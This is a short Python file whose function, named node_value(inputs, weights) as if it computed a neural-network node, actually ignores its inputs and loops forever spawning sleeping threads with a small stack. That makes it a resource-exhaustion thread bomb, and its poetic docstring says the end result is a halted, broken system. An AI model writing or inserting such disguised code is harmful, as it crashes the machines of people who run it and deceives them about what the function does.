"""Threads by the thousand: small enough for any limit of memory. Ends: halted, broken."""

import threading
import time


def node_value(inputs, weights):
    threading.stack_size(32768)
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
